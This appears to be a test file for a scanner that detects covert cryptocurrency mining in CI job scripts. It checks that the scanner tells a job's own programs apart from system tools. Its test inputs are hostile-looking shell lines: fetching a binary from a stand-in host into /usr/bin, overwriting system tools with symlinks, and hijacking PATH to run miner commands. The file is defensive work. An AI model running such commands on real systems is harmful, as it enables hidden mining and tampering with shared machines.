import assert from 'node:assert/strict';
import { test } from 'node:test';
import { scanJob, scanScript } from '../test-scanner.ts';
import { testAddress } from '../wallet/test-addresses.ts';

const MINES = `-o pool.example.org:3333 -u ${testAddress('monero', 11)} -p x`;

const OWN: readonly (readonly [what: string, script: string])[] = [
  ['a file in the folder', `./grep ${MINES}`],
  ['a name that a copy gives', `cp m /usr/local/bin/sort; sort ${MINES}`],
  ['the name of the copied file', `cp tools/sort /usr/local/bin/; sort ${MINES}`],
  ['a name that a fetch gives', `curl -sLo /usr/bin/sort https://a.test/m; sort ${MINES}`],
  ['a name in the table of the shell', `hash -p ./m sort; sort ${MINES}`],
  ['a folder before those of the machine', `export PATH=$PWD/bin:$PATH; sort ${MINES}`],
  ['the same for one command', `PATH=.:$PATH sort ${MINES}`],
  ['a link in the place of a tool', `ln -sf $PWD/m "$(which sort)"; sort ${MINES}`],
  ['a name that may come out of an archive', `tar xf a.tgz -C /usr/local/bin; sort ${MINES}`],
  ['the tool of an image', `docker run --rm someone/tools sort ${MINES}`],
  ['a file named after what runs another program', `./env ${MINES}`],
];

for (const [what, script] of OWN) {
  test(`a program of the job's own: ${what}`, () => {
    assert.equal(scanScript(script).verdict, 'confirmed');
  });
}

const OF_THE_MACHINE: readonly (readonly [what: string, script: string])[] = [
  ['a name', `curl ${MINES}`],
  ['its full path', `/usr/bin/curl ${MINES}`],
  ['a folder behind those of the machine', `export PATH=$PATH:$PWD/bin; sort ${MINES}`],
  ['a builtin', `export PATH=$PWD/bin:$PATH; echo ./m ${MINES}`],
  ['a copy of another name', `cp m /usr/local/bin/n; sort ${MINES}`],
];

for (const [what, script] of OF_THE_MACHINE) {
  test(`a tool of the machine: ${what}`, () => {
    assert.equal(scanScript(script).verdict, 'clear');
  });
}

test('a tool that runs a program of the job hands it what stands behind', () => {
  for (const run of ['go run ./m', 'cargo run --', 'npx m', 'npm start --', 'dotnet run --']) {
    assert.equal(scanScript(`${run} ${MINES}`).verdict, 'confirmed', run);
  }
});

test('the tools of an image are whoever made it', () => {
  const job = { images: ['someone/tools'] };
  assert.equal(scanJob({ ...job, scripts: [`sort ${MINES}`] }).verdict, 'confirmed');
  assert.equal(scanJob({ ...job, scripts: [`/usr/bin/curl ${MINES}`] }).verdict, 'clear');
});

test('a search path of the job, and one for its later steps', () => {
  const scripts = [`sort ${MINES}`];
  assert.equal(
    scanJob({ scripts, environment: { PATH: '/builds/bin:/bin' } }).verdict,
    'confirmed',
  );
  const later = scanJob({ scripts: ['echo "$PWD/bin" >> $GITHUB_PATH', ...scripts] });
  assert.equal(later.verdict, 'confirmed');
  assert.equal(scanJob({ scripts }).verdict, 'clear');
});
